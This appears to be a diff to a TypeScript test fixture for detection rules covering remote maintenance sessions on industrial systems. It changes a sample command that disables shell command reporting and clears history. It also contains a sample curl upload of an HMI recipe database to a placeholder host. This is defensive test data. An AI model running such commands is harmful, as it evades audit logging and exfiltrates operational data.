@@ -34,7 +34,7 @@ const cases: Record<string, Case> = {
   'Removable Media During a Remote Session': { category: 'removable_media', match: { Action: 'mount', Device: '/dev/sdb1', DuringRemoteSession: true }, miss: { Action: 'mount', Device: '/dev/sdb1' } },
   'Interactive Shell Started by a Remote-Access Tool': { category: 'process_creation', match: proc('/usr/bin/bash', 'bash -i', { ParentImage: '/opt/anydesk/anydesk' }), miss: proc('/usr/bin/bash', 'bash -i', { ParentImage: '/usr/sbin/sshd' }) },
   'Recorded Shell Refused by the O&M Policy': { category: 'remote_session', match: { Action: 'refused', Tool: 'omwatch-shell', Reason: 'a change ticket is required' }, miss: { Action: 'start', Tool: 'omwatch-shell' } },
-  'Command Reporting Turned Off in a Recorded Shell': { category: 'shell_command', match: { CommandLine: 'unset PS0; history -c', SessionId: 'shell-1', User: 'vendor1' }, miss: { CommandLine: 'systemctl status plc-gateway', SessionId: 'shell-1', User: 'vendor1' } },
+  'Command Reporting Turned Off in a Recorded Shell': { category: 'shell_command', match: { CommandLine: 'trap - DEBUG; history -c', SessionId: 'shell-1', User: 'vendor1' }, miss: { CommandLine: 'systemctl status plc-gateway', SessionId: 'shell-1', User: 'vendor1' } },
   'Data Transfer Tool Inside a Remote Session': { category: 'process_creation', match: proc('/usr/bin/curl', 'curl -T /opt/hmi/recipes.db https://example.net/up', inSession), miss: proc('/usr/bin/curl', 'curl -s http://127.0.0.1:8080/health', inSession) },
 };
 
